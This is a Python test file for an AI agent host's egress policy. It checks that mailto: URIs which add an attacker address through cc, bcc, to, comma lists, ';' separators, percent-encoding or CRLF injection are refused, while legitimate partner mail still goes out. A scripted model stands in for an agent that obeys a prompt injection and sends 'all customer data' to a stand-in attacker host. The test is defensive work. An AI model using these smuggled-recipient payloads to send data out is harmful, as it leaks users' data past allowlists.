"""A fifty-second round of attacks by a reader of the policy (helper ``prov52``): beyond the
provenance of goal arguments, the egress rule (T8).

1. **a ``mailto:`` URI with more recipients than its host**: the egress rule read a
   ``scheme://authority`` value's host as its one destination, so
   ``mailto://ok@partner.example?cc=mallory@attacker.example`` was a mail to the allowed
   ``partner.example``; a mail tool that reads ``mailto:`` URIs as a mail client does (RFC 6068,
   or ``urllib.parse``, which reads ``mailto://`` with an authority) sends to every address in
   its path and in its ``to``, ``cc`` and ``bcc`` fields, the attacker's too. The rule now reads
   every address of a ``mailto:`` URI (``destinations_of``: percent-decoded, ``;`` read as a
   field separator too, a fragment refused) and each must be allowed; a plain ``mailto:`` to an
   allowed address (refused before as no plain address) now passes.

Each test runs a real host with the policy and a model stand-in that obeys the injection, checks
that the tool never received the attacker's destination AND that the user's own mail still goes
out without a reviewer.
"""

from __future__ import annotations

import urllib.parse
from typing import Annotated

import pytest
from pydantic import Field

from tether.core.stop import StopReason
from tether.host import Host
from tether.policy import Policy, TrustedContext, destination_of
from tether.policy._destinations import destinations_of
from tether.runs._values import Agent
from tether.testing import ScriptedModel, call, final
from tether.tools import Effect, tool

pytestmark = [pytest.mark.anyio, pytest.mark.spec("T8")]

CTX = TrustedContext(tenant="org-alpha")
MAILED: list[list[str]] = []


def recipients(uri: str) -> list[str]:
    """Every address a mail client sends a ``mailto:`` URI to (or a plain address): the path
    (``urllib.parse`` puts ``mailto://a@b`` in the authority) and the ``to``/``cc``/``bcc``
    fields."""
    parts = urllib.parse.urlsplit(uri)
    if parts.scheme != "mailto":
        return [uri]
    found = [a for a in urllib.parse.unquote(parts.netloc or parts.path).split(",") if a]
    for name, value in urllib.parse.parse_qsl(parts.query):
        if name.lower() in {"to", "cc", "bcc"}:
            found.extend(a for a in value.split(",") if a)
    return found


@tool(effect=Effect.SEND, egress_argument="to")
def send_mail(
    to: Annotated[str, Field(max_length=300, description="An e-mail address or a mailto: link.")],
    body: Annotated[str, Field(max_length=500, description="The message.")],
) -> str:
    """Send a mail."""
    MAILED.append(recipients(to))
    return "sent"


# Mail to the partner needs no person: a bypass of the egress rule is the whole attack.
POLICY = Policy(
    allow={"send_mail"},
    egress={"partner.example", "ops.example"},
    automatic_effects={Effect.READ, Effect.SEND},
)

ATTACKS = [
    "mailto://ok@partner.example?cc=mallory@attacker.example",
    "mailto://ok@partner.example?BCC=mallory%40attacker.example",
    "mailto:ok@partner.example?to=mallory@attacker.example",
    "mailto:ok@partner.example,mallory@attacker.example",
]

LEGITIMATE = [
    "mailto:ok@partner.example?subject=weekly&body=hi",
    "mailto:?to=ok@partner.example&cc=reports@ops.example",
    "ok@partner.example",
]


async def _run(to: str) -> tuple[StopReason, str]:
    host = Host(policy=POLICY)
    host.add_tools(send_mail)
    model = ScriptedModel([call("send_mail", to=to, body="all customer data"), final("ok")])
    try:
        result = await host.run(Agent(instructions="x", model=model), "Send the report.", context=CTX)
    finally:
        await host.aclose()
    return result.stop_reason, result.detail


@pytest.mark.parametrize("to", ATTACKS)
async def test_a_mailto_uri_copying_the_attacker_is_refused_and_the_partners_own_mail_goes(to: str) -> None:
    MAILED.clear()
    assert "mallory@attacker.example" in recipients(to)  # where the tool would send it
    stop, detail = await _run(to)
    assert stop is StopReason.POLICY_DENIED and "egress_not_allowed" in detail
    assert MAILED == []

    for ok in LEGITIMATE:
        stop, _ = await _run(ok)
        assert stop is StopReason.ACCEPTED
    assert MAILED == [
        ["ok@partner.example"],
        ["ok@partner.example", "reports@ops.example"],
        ["ok@partner.example"],
    ]


def test_every_address_of_a_mailto_uri_is_a_destination_and_an_unclear_one_is_refused() -> None:
    assert destinations_of("mailto://ok@partner.example?cc=m@attacker.example") == (
        "partner.example",
        "attacker.example",
    )
    # ';' (an older field separator) and a percent-encoded field name are read as a client may.
    assert "attacker.example" in destinations_of("mailto:ok@partner.example?subject=x;cc=m@attacker.example")
    assert "attacker.example" in destinations_of("mailto:ok@partner.example?%63c=m@attacker.example")
    assert destination_of("MAILTO:ok@Partner.Example?subject=a%20b") == "partner.example"
    for unclear in [
        "mailto:ok@partner.example#cc=m@attacker.example",
        "mailto:ok@partner.example%0d%0acc:m@attacker.example",
        "mailto:ok@partner.example?cc=m@attacker.example%26x",
        "mailto:",
    ]:
        with pytest.raises(ValueError):
            destinations_of(unclear)
    with pytest.raises(ValueError):  # one destination: not a mail to two domains
        destination_of("mailto:ok@partner.example,reports@ops.example")
